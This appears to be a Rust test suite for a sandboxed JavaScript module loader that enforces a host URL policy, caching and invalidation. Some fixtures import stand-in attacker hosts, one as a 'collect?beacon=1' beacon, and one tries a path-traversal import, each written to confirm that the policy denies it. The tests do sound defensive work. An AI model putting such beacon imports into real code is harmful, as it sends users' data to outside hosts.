//! Guest ES modules with host-provided sources: the policy decides before any fetch,
//! graphs preload then link, import.meta is { url } only, trusted modules are inert tokens,
//! and invalidation drops importers transitively.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
#[cfg(target_arch = "wasm32")]
wasm_bindgen_test::wasm_bindgen_test_configure!(run_in_browser);

use std::collections::HashMap;

use isolated_realm::modules::cache;
use isolated_realm::modules::policy::{Policy, TokenKind, TrustedModule, integrity_of};
use isolated_realm::{ErrorCode, EvalOptions, Graph, Object, Outcome, Realm, RealmOptions, Value};
use wasm_bindgen_test::wasm_bindgen_test;

const REALM: &str = "https://realm.example/alice/";
const PKG: &str = "https://cdn.example/pkg@1.0.0/index.js";
const PKG_SRC: &str = "export const version = '1.0.0';";

fn realm() -> Realm {
    let mut policy =
        Policy::new(&[REALM], &[], &[(PKG, &integrity_of(PKG_SRC.as_bytes()))]).unwrap();
    policy.trust(TrustedModule {
        specifier: "@cardstack/card-api".into(),
        exports: vec![
            ("CardDef".into(), TokenKind::Class),
            ("field".into(), TokenKind::Function),
            ("Button".into(), TokenKind::Value),
        ],
    });
    let options = RealmOptions {
        allow_code_generation: true,
        modules: policy,
        ..Default::default()
    };
    Realm::new(options, None).unwrap()
}

/// Serves every requested fetch from `files` until the import settles; returns what was
/// requested (the request log) and the result.
fn import(
    r: &mut Realm,
    url: &str,
    files: &HashMap<&str, &str>,
) -> (Vec<String>, Result<Graph, isolated_realm::SandboxError>) {
    let mut log = Vec::new();
    let mut outcome = r.import(url).map(|o| (o, Vec::new()));
    loop {
        match outcome {
            Err(e) => return (log, Err(e)),
            Ok((Outcome::Done(g), _)) => return (log, Ok(g)),
            Ok((Outcome::Pending(token), mut finished)) => {
                if let Some(pos) = finished.iter().position(|(t, _)| *t == token) {
                    return (log, finished.remove(pos).1);
                }
                let fetches = r.take_fetches();
                assert!(!fetches.is_empty(), "pending with nothing to fetch");
                let mut done = Vec::new();
                for f in fetches {
                    log.push(f.url.clone());
                    let body = files
                        .get(f.url.as_str())
                        .map(|s| s.as_bytes().to_vec())
                        .ok_or_else(|| "404".to_owned());
                    done.extend(r.provide(&f.url, body));
                }
                outcome = Ok((Outcome::Pending(token), done));
            }
        }
    }
}

fn names(g: &Graph) -> Vec<String> {
    let Value::Object(id) = g.root else {
        panic!("{g:?}")
    };
    let Some(Object::Array { elements, .. }) = g.get(id) else {
        panic!("{g:?}")
    };
    elements
        .iter()
        .map(|(_, v)| match v {
            Value::String(t) => t.to_lossy(),
            _ => String::new(),
        })
        .collect()
}

#[wasm_bindgen_test(unsupported = test)]
fn a_module_graph_preloads_links_and_evaluates() {
    let mut r = realm();
    let files = HashMap::from([
        (
            "https://realm.example/alice/card.js",
            "import { twice } from './lib/math.js'; import { version } from 'https://cdn.example/pkg@1.0.0/index.js';\nexport const answer = twice(21); export const meta = JSON.stringify(import.meta); export const v = version; globalThis.fromModule = answer;",
        ),
        (
            "https://realm.example/alice/lib/math.js",
            "export function twice(x) { return x * 2 }",
        ),
        (PKG, PKG_SRC),
    ]);
    let (log, result) = import(&mut r, "https://realm.example/alice/card.js", &files);
    assert_eq!(names(&result.unwrap()), ["answer", "meta", "v"]);
    assert_eq!(log.len(), 3);
    let meta = r.eval("fromModule", &EvalOptions::default()).unwrap();
    assert_eq!(meta.root, Value::Number(42.0));
}

#[wasm_bindgen_test(unsupported = test)]
fn import_meta_is_url_only() {
    let mut r = realm();
    let files = HashMap::from([(
        "https://realm.example/alice/m.js",
        "globalThis.meta = [Object.keys(import.meta).join(), import.meta.url, Object.getPrototypeOf(import.meta)];",
    )]);
    import(&mut r, "https://realm.example/alice/m.js", &files)
        .1
        .unwrap();
    let g = r
        .eval("JSON.stringify(meta)", &EvalOptions::default())
        .unwrap();
    assert_eq!(
        g.root,
        Value::str("[\"url\",\"https://realm.example/alice/m.js\",null]")
    );
}

#[wasm_bindgen_test(unsupported = test)]
fn denied_imports_request_nothing_and_carry_the_code() {
    let mut r = realm();
    let files = HashMap::from([
        (
            "https://realm.example/alice/beacon.js",
            "import 'https://attacker.example/collect?beacon=1';",
        ),
        (
            "https://realm.example/alice/sibling.js",
            "import '../alice-evil/x.js';",
        ),
        (
            "https://realm.example/alice/caught.js",
            "export let got; try { await import('https://attacker.example/x.js') } catch (e) { got = e.name }\nglobalThis.caught = got;",
        ),
    ]);
    for entry in [
        "https://realm.example/alice/beacon.js",
        "https://realm.example/alice/sibling.js",
    ] {
        let (log, result) = import(&mut r, entry, &files);
        assert_eq!(log, [entry], "only the entry was fetched: {log:?}");
        assert_eq!(
            result.expect_err(entry).code,
            ErrorCode::PolicyDenied,
            "{entry}"
        );
    }
    let (log, result) = import(&mut r, "https://realm.example/alice/caught.js", &files);
    result.unwrap();
    assert_eq!(log, ["https://realm.example/alice/caught.js"]);
    assert_eq!(
        r.eval("caught", &EvalOptions::default()).unwrap().root,
        Value::str("TypeError")
    );
    // The host cannot be talked into fetching outside the policy either.
    assert_eq!(
        r.import("https://attacker.example/x.js")
            .expect_err("denied")
            .code,
        ErrorCode::PolicyDenied
    );
    assert!(r.take_fetches().is_empty());
    // Scripts get the same policy for dynamic import.
    let g = r
        .eval(
            "import('https://attacker.example/y.js').then(() => 'loaded', (e) => e.name)",
            &EvalOptions::default(),
        )
        .unwrap();
    assert_eq!(g.root, Value::str("TypeError"));
    assert!(r.take_fetches().is_empty());
}

#[wasm_bindgen_test(unsupported = test)]
fn integrity_mismatch_and_syntax_errors_are_typed() {
    let mut r = realm();
    let files = HashMap::from([
        (
            "https://realm.example/alice/uses-pkg.js",
            "import 'https://cdn.example/pkg@1.0.0/index.js';",
        ),
        (PKG, "export const version = 'tampered';"),
        (
            "https://realm.example/alice/broken.js",
            "export const x = ;",
        ),
    ]);
    let (_, result) = import(&mut r, "https://realm.example/alice/uses-pkg.js", &files);
    assert_eq!(result.expect_err("integrity").code, ErrorCode::PolicyDenied);
    let (_, result) = import(&mut r, "https://realm.example/alice/broken.js", &files);
    let e = result.expect_err("syntax");
    assert_eq!(e.code, ErrorCode::Syntax);
    let loc = e.details.location.expect("location");
    assert_eq!(
        (loc.filename.as_str(), loc.line),
        ("https://realm.example/alice/broken.js", 1)
    );
}

#[wasm_bindgen_test(unsupported = test)]
fn trusted_modules_are_inert_tokens() {
    let mut r = realm();
    let files = HashMap::from([(
        "https://realm.example/alice/card.js",
        "import { CardDef, field, Button } from '@cardstack/card-api';\nclass Counter extends CardDef { static title = field('number'); }\nglobalThis.probe = JSON.stringify({ sub: new Counter() instanceof CardDef, keys: Object.getOwnPropertyNames(CardDef).sort(), desc: Counter.title, frozen: Object.isFrozen(Button), proto: Object.getPrototypeOf(Button) });",
    )]);
    import(&mut r, "https://realm.example/alice/card.js", &files)
        .1
        .unwrap();
    let g = r.eval("probe", &EvalOptions::default()).unwrap();
    assert_eq!(
        g.root,
        Value::str(
            "{\"sub\":true,\"keys\":[\"length\",\"name\",\"prototype\"],\"desc\":{\"token\":\"field\",\"args\":[\"number\"]},\"frozen\":true,\"proto\":null}"
        )
    );
}

#[wasm_bindgen_test(unsupported = test)]
fn invalidation_drops_importers_and_refetches() {
    let mut r = realm();
    let mut files = HashMap::from([
        (
            "https://realm.example/alice/card.js",
            "import { n } from './dep.js'; globalThis.seen = n;",
        ),
        ("https://realm.example/alice/dep.js", "export const n = 1;"),
    ]);
    import(&mut r, "https://realm.example/alice/card.js", &files)
        .1
        .unwrap();
    assert_eq!(
        r.eval("seen", &EvalOptions::default()).unwrap().root,
        Value::Number(1.0)
    );
    files.insert("https://realm.example/alice/dep.js", "export const n = 2;");
    let mut gone = r.invalidate("https://realm.example/alice/dep.js");
    gone.sort();
    assert_eq!(
        gone,
        [
            "https://realm.example/alice/card.js",
            "https://realm.example/alice/dep.js"
        ]
    );
    let (log, result) = import(&mut r, "https://realm.example/alice/card.js", &files);
    result.unwrap();
    assert_eq!(log.len(), 2, "both were fetched again");
    assert_eq!(
        r.eval("seen", &EvalOptions::default()).unwrap().root,
        Value::Number(2.0)
    );
}

#[wasm_bindgen_test(unsupported = test)]
fn tokens_leave_by_identity_only() {
    let mut r = realm();
    let files = HashMap::from([(
        "https://realm.example/alice/t.js",
        "import { Button, CardDef } from '@cardstack/card-api';\nglobalThis.out = [Button, CardDef, { module: '@cardstack/card-api', export: 'Button' }];",
    )]);
    import(&mut r, "https://realm.example/alice/t.js", &files)
        .1
        .unwrap();
    let g = r.eval("out", &EvalOptions::default()).unwrap();
    let Value::Object(id) = g.root else { panic!() };
    let Some(Object::Array { elements, .. }) = g.get(id) else {
        panic!()
    };
    let kinds: Vec<&Object> = elements
        .iter()
        .map(|(_, v)| match v {
            Value::Object(o) => g.get(*o).unwrap(),
            _ => panic!(),
        })
        .collect();
    assert_eq!(
        kinds[0],
        &Object::Token {
            module: "@cardstack/card-api".into(),
            export: "Button".into()
        }
    );
    assert_eq!(
        kinds[1],
        &Object::Token {
            module: "@cardstack/card-api".into(),
            export: "CardDef".into()
        }
    );
    assert!(
        matches!(kinds[2], Object::Plain(_)),
        "a look-alike is plain data"
    );
    // A token sent back in is plain data: identity never crosses.
    r.set("back", &g).unwrap();
    assert_eq!(
        r.eval(
            "back[0] === out[0] || Object.isFrozen(back[0])",
            &EvalOptions::default()
        )
        .unwrap()
        .root,
        Value::Bool(false)
    );
}

#[wasm_bindgen_test(unsupported = test)]
fn a_policy_change_evicts_what_was_loaded_under_the_old_one() {
    let mut r = realm();
    let files = HashMap::from([
        (
            "https://realm.example/alice/a.js",
            "import './b.js'; globalThis.a = 1;",
        ),
        ("https://realm.example/alice/b.js", "globalThis.b = 1;"),
    ]);
    import(&mut r, "https://realm.example/alice/a.js", &files)
        .1
        .unwrap();
    let gone = r.set_module_policy(Policy::new(&["https://realm.example/bob/"], &[], &[]).unwrap());
    assert_eq!(
        gone,
        [
            "https://realm.example/alice/a.js",
            "https://realm.example/alice/b.js"
        ]
    );
    let e = r
        .import("https://realm.example/alice/a.js")
        .expect_err("no longer allowed");
    assert_eq!(e.code, ErrorCode::PolicyDenied);
    assert!(r.take_fetches().is_empty());
}

#[wasm_bindgen_test(unsupported = test)]
fn link_errors_name_the_module() {
    let mut r = realm();
    let files = HashMap::from([
        (
            "https://realm.example/alice/importer.js",
            "import { nope } from './lib.js';\nglobalThis.x = nope;",
        ),
        (
            "https://realm.example/alice/lib.js",
            "export const yes = 1;",
        ),
    ]);
    let e = import(&mut r, "https://realm.example/alice/importer.js", &files)
        .1
        .expect_err("link error");
    assert_eq!(e.code, ErrorCode::Syntax, "{e}");
    let loc = e.details.location.expect("location");
    assert_eq!(
        (loc.filename.as_str(), loc.line, loc.column),
        ("https://realm.example/alice/importer.js", 1, 10)
    );
}

#[wasm_bindgen_test(unsupported = test)]
fn a_computed_dynamic_import_waits_for_the_host_and_resumes() {
    let mut r = realm();
    let files = HashMap::from([
        (
            "https://realm.example/alice/lazy.js",
            "import { base } from './lazy-dep.js'; export const value = base + 1;",
        ),
        (
            "https://realm.example/alice/lazy-dep.js",
            "export const base = 41;",
        ),
    ]);
    let src = "const name = ['la', 'zy'].join(''); Promise.all([import(`https://realm.example/alice/${name}.js`).then(m => m.value), import('https://attacker.example/' + name).catch(e => e.name), import(`https://realm.example/alice/${name}-missing.js`).catch(e => e.name)])";
    let token = match r.eval_outcome(src, &EvalOptions::default()).unwrap() {
        Outcome::Pending(t) => t,
        Outcome::Done(g) => panic!("finished before the host answered: {g:?}"),
    };
    // The denied one requested nothing; the allowed ones are asked for, then their imports.
    let mut log = Vec::new();
    let mut finished = Vec::new();
    for _ in 0..4 {
        for f in r.take_fetches() {
            log.push(f.url.clone());
            let body = files
                .get(f.url.as_str())
                .map(|s| s.as_bytes().to_vec())
                .ok_or_else(|| "404".to_owned());
            finished.extend(r.provide(&f.url, body));
        }
    }
    assert_eq!(
        log,
        [
            "https://realm.example/alice/lazy.js",
            "https://realm.example/alice/lazy-missing.js",
            "https://realm.example/alice/lazy-dep.js"
        ]
    );
    let (_, result) = finished
        .into_iter()
        .find(|(t, _)| *t == token)
        .expect("the eval finished once the modules arrived");
    let g = result.unwrap();
    r.set("__r", &g).unwrap();
    let s = r
        .eval("JSON.stringify(__r)", &EvalOptions::default())
        .unwrap();
    assert_eq!(s.root, Value::str(r#"[42,"TypeError","TypeError"]"#));
}

#[wasm_bindgen_test(unsupported = test)]
fn import_like_text_in_strings_and_comments_is_harmless_and_real_failures_keep_their_codes() {
    let mut r = realm();
    let files = HashMap::from([
        (
            "https://realm.example/alice/quotes.js",
            "// import 'nothing'\nexport const line = `A line from 'Hamlet'`;\nexport const other = \"import './missing.js'\";",
        ),
        (
            "https://realm.example/alice/uses-broken.js",
            "import { x } from './broken-dep.js';\nexport const y = x;",
        ),
        (
            "https://realm.example/alice/broken-dep.js",
            "export const x = ;",
        ),
        (
            "https://realm.example/alice/uses-denied.js",
            "import 'https://attacker.example/x.js';",
        ),
    ]);
    let (log, result) = import(&mut r, "https://realm.example/alice/quotes.js", &files);
    assert_eq!(names(&result.unwrap()), ["line", "other"]);
    // The scan asked for the allowed look-alike (a 404), never for the bare one.
    assert_eq!(
        log,
        [
            "https://realm.example/alice/quotes.js",
            "https://realm.example/alice/missing.js"
        ]
    );
    let e = import(&mut r, "https://realm.example/alice/uses-broken.js", &files)
        .1
        .unwrap_err();
    assert_eq!(e.code, ErrorCode::Syntax);
    let loc = e.details.location.expect("the dependency's location");
    assert_eq!(loc.filename, "https://realm.example/alice/broken-dep.js");
    let e = import(&mut r, "https://realm.example/alice/uses-denied.js", &files)
        .1
        .unwrap_err();
    assert_eq!(e.code, ErrorCode::PolicyDenied);
    assert_eq!(
        e.details.path.as_deref(),
        Some("https://attacker.example/x.js")
    );
}

/// A source no other test (or earlier run on this thread) parsed: the cache is per thread,
/// and in wasm every test shares one.
fn fresh(body: &str) -> String {
    use std::sync::atomic::{AtomicU64, Ordering};
    static N: AtomicU64 = AtomicU64::new(0);
    let n = N.fetch_add(1, Ordering::Relaxed);
    format!("/* {n} {:?} */\n{body}", std::thread::current().id())
}

fn cache_delta(before: cache::CacheStats) -> (u64, u64) {
    let now = cache::stats();
    (now.hits - before.hits, now.misses - before.misses)
}

#[wasm_bindgen_test(unsupported = test)]
fn the_same_source_is_parsed_once_for_every_realm_of_the_worker() {
    let card = fresh(
        "import { bump } from './counter.js'; export const first = bump(); export const url = import.meta.url;",
    );
    let counter = fresh("let n = 0; export function bump() { return ++n; }");
    let files = HashMap::from([
        ("https://realm.example/alice/card.js", card.as_str()),
        ("https://realm.example/alice/counter.js", counter.as_str()),
        ("https://realm.example/alice/copy.js", card.as_str()),
        (
            "https://realm.example/alice/both.js",
            "import * as x from './card.js'; import * as y from './copy.js';\nglobalThis.both = [x.url, x.first, y.url, y.first, x === y].join(' ');",
        ),
    ]);
    let read = |r: &mut Realm, what: &str| r.eval(what, &EvalOptions::default()).unwrap().root;

    let before = cache::stats();
    let mut a = realm();
    import(&mut a, "https://realm.example/alice/card.js", &files)
        .1
        .unwrap();
    assert_eq!(cache_delta(before), (0, 2), "the first realm parses both");

    let before = cache::stats();
    let mut b = realm();
    let (log, result) = import(&mut b, "https://realm.example/alice/card.js", &files);
    result.unwrap();
    assert_eq!(log.len(), 2, "the host still provides the bytes");
    assert_eq!(cache_delta(before), (2, 0), "another realm parses nothing");

    // Shared syntax, separate instances: each realm has its own module state.
    for r in [&mut a, &mut b] {
        r.eval(
            "import('https://realm.example/alice/counter.js').then((m) => { globalThis.next = m.bump(); })",
            &EvalOptions::default(),
        )
        .unwrap();
        assert_eq!(read(r, "next"), Value::Number(2.0));
    }

    // The same bytes under another URL: no parse, and that instance has its own URL and
    // state (it shares the counter module with the first, as imports of one URL do).
    let before = cache::stats();
    import(&mut b, "https://realm.example/alice/both.js", &files)
        .1
        .unwrap();
    assert_eq!(cache_delta(before), (1, 1), "copy.js hits; both.js is new");
    assert_eq!(
        read(&mut b, "both"),
        Value::str(
            "https://realm.example/alice/card.js 1 https://realm.example/alice/copy.js 3 false"
        )
    );
}

#[wasm_bindgen_test(unsupported = test)]
fn a_module_loaded_again_reparses_only_when_its_bytes_changed() {
    let dep_v1 = fresh("export const n = 1;");
    let dep_v2 = fresh("export const n = 2;");
    let card = fresh("import { n } from './dep.js'; globalThis.seen = n;");
    let mut files = HashMap::from([
        ("https://realm.example/alice/card.js", card.as_str()),
        ("https://realm.example/alice/dep.js", dep_v1.as_str()),
    ]);
    let mut r = realm();
    import(&mut r, "https://realm.example/alice/card.js", &files)
        .1
        .unwrap();

    // Invalidated, unchanged: fetched again (the host decides), parsed never.
    r.invalidate("https://realm.example/alice/dep.js");
    r.eval("globalThis.seen = 0", &EvalOptions::default())
        .unwrap();
    let before = cache::stats();
    let (log, result) = import(&mut r, "https://realm.example/alice/card.js", &files);
    result.unwrap();
    assert_eq!(log.len(), 2);
    assert_eq!(cache_delta(before), (2, 0));
    assert_eq!(
        r.eval("seen", &EvalOptions::default()).unwrap().root,
        Value::Number(1.0),
        "a fresh instance evaluated again"
    );

    // Edited: the new bytes parse, the importer's unchanged bytes do not.
    files.insert("https://realm.example/alice/dep.js", dep_v2.as_str());
    r.invalidate("https://realm.example/alice/dep.js");
    let before = cache::stats();
    import(&mut r, "https://realm.example/alice/card.js", &files)
        .1
        .unwrap();
    assert_eq!(cache_delta(before), (1, 1));
    assert_eq!(
        r.eval("seen", &EvalOptions::default()).unwrap().root,
        Value::Number(2.0)
    );
}

#[wasm_bindgen_test(unsupported = test)]
fn instances_of_one_parse_keep_their_own_template_objects() {
    // A tagged template's strings object is per site and per Parse Node: two instances of
    // the same cached parse must not share it, one instance always returns its own.
    let src = fresh("const tag = (s) => s; export function site() { return tag`x${1}y`; }");
    let files = HashMap::from([
        ("https://realm.example/alice/a.js", src.as_str()),
        ("https://realm.example/alice/b.js", src.as_str()),
        (
            "https://realm.example/alice/main.js",
            "import { site as a } from './a.js'; import { site as b } from './b.js';\nglobalThis.same = a() === a(); globalThis.shared = a() === b(); globalThis.raw = b().raw.join('|');",
        ),
    ]);
    let mut r = realm();
    import(&mut r, "https://realm.example/alice/main.js", &files)
        .1
        .unwrap();
    let got = r
        .eval("[same, shared, raw].join()", &EvalOptions::default())
        .unwrap()
        .root;
    assert_eq!(got, Value::str("true,false,x|y"));
}

#[wasm_bindgen_test(unsupported = test)]
fn syntax_errors_are_not_cached_and_stay_located() {
    let bad = fresh("export const a = 1;\nexport const = 2;");
    let files = HashMap::from([("https://realm.example/alice/bad.js", bad.as_str())]);
    for _ in 0..2 {
        let before = cache::stats();
        let mut r = realm();
        let e = import(&mut r, "https://realm.example/alice/bad.js", &files)
            .1
            .unwrap_err();
        assert_eq!(e.code, ErrorCode::Syntax);
        let at = e.details.location.expect("located");
        assert_eq!(
            (at.filename.as_str(), at.line),
            ("https://realm.example/alice/bad.js", 3)
        );
        assert_eq!(cache_delta(before), (0, 1));
    }
}

#[wasm_bindgen_test(unsupported = test)]
fn linking_modules_does_not_grow_the_value_stack() {
    // Boa left each linked module's frame values (`this`, the function and its registers)
    // on the VM stack for good, so a long-lived compartment overflowed it after a few hundred
    // modules (our patch 11). With a small stack this failed at the ninth module.
    let options = RealmOptions {
        modules: Policy::new(&[REALM], &[], &[]).unwrap(),
        limits: isolated_realm::Limits {
            max_stack_size: 1024,
            ..Default::default()
        },
        ..Default::default()
    };
    let mut r = Realm::new(options, None).unwrap();
    for n in 0..40 {
        let names: Vec<String> = (0..50).map(|k| format!("b{k}")).collect();
        let src = format!(
            "{}\nexport const total = {};",
            names
                .iter()
                .enumerate()
                .map(|(k, b)| format!("export const {b} = {k};"))
                .collect::<String>(),
            names.join(" + ")
        );
        let url = format!("https://realm.example/alice/wide{n}.js");
        let files = HashMap::from([(url.as_str(), src.as_str())]);
        let (_, result) = import(&mut r, &url, &files);
        assert!(result.is_ok(), "module {n}: {result:?}");
        r.invalidate(&url);
    }
    let g = r.eval("1 + 1", &EvalOptions::default()).unwrap();
    assert_eq!(g.root, Value::Number(2.0));
}
